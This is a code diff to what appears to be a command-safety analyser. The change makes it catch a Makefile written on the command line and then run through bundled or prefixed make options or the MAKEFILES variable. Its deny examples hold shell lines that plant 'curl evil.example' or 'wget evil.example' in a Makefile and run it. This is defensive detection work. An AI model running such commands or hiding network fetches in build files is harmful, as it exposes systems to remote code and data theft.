@@ -2,9 +2,10 @@
 // interpreters the language's files. Such code is out of scope, as any script file is, unless the line itself wrote it
 // (`cat > Makefile <<E … E && make`, `echo '{"scripts":…}' > package.json && npm test`): then it is code on the line.
 import type { Language, Word } from '../../types.js';
-import type { Call, Run } from '../types.js';
+import { parse } from '../argv.js';
+import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
 import { attached, value } from '../words.js';
-import { makefileText } from './makefile.js';
+import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 /** What a file of the project stands for: the runs its text makes. */
 type Read = (text: string, word: Word, name: string) => Run[];
@@ -51,6 +52,10 @@ interface Row {
   runs?: RegExp;
   /** `-f FILE` options naming the very file (make's makefile), read in place of `files`. */
   file?: readonly string[];
+  /** Its argument model, when it bundles short options or takes long ones by prefix (`make -sf b.mk`, `--fi=b.mk`). */
+  spec?: OptionSpec;
+  /** Environment variables naming more such files, read first (`MAKEFILES`), blank-separated. */
+  envFiles?: readonly string[];
   examples: { deny: readonly string[]; pass: readonly string[] };
 }
 
@@ -68,9 +73,11 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [{ files: /^(?:GNUmakefile|makefile|Makefile)$|\.mk$/, read: (text, word, name) => makefileText(word, text, `make (${name})`) }],
     dir: ['-C', '--directory'],
     file: ['-f', '--file', '--makefile'],
+    spec: MAKE_OPTIONS,
+    envFiles: ['MAKEFILES'],
     examples: {
-      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
-      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
+      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
     },
   },
   {
@@ -126,7 +133,23 @@ export function projectRuns(call: Call): Run[] {
   const at: Word = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
   let dir: Word | undefined;
   const files: Word[] = [];
-  for (let i = 0; i < call.args.length; i++) {
+  const first: Word[] = [];
+  for (const name of row.envFiles ?? []) {
+    const env = call.env(name);
+    if (env === null) return [{ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} first reads the files $${name} names, which is computed` }];
+    for (const f of env?.split(/\s+/).filter((x) => x !== '') ?? []) first.push(attached(at, f));
+  }
+  if (row.spec) {
+    // `-sf b.mk`, `-kfb.mk`, `--fi=b.mk`: read as the program's own parser reads them.
+    const p = parse(call.args, row.spec);
+    const named = (o: ParsedOption, list: readonly string[] | undefined) => list?.includes(o.name.length === 1 ? `-${o.name}` : `--${o.name}`);
+    for (const o of p.options) {
+      if (!o.value) continue;
+      if (named(o, row.dir)) dir = o.value;
+      else if (named(o, row.file)) files.push(o.value);
+    }
+  }
+  for (let i = 0; i < call.args.length && !row.spec; i++) {
     const v = value(call.args[i]!);
     if (v === '--') break;
     if (v === undefined) continue;
@@ -144,6 +167,7 @@ export function projectRuns(call: Call): Run[] {
   const via = call.name;
   const where = dir ? { dir } : {};
   // The very files named: each read as the row's first kind of code.
-  if (files.length > 0) return files.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
-  return row.code.map((c) => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }));
+  const named = (list: Word[]): Run[] => list.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
+  if (files.length > 0) return [...named(first), ...named(files)];
+  return [...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
 }
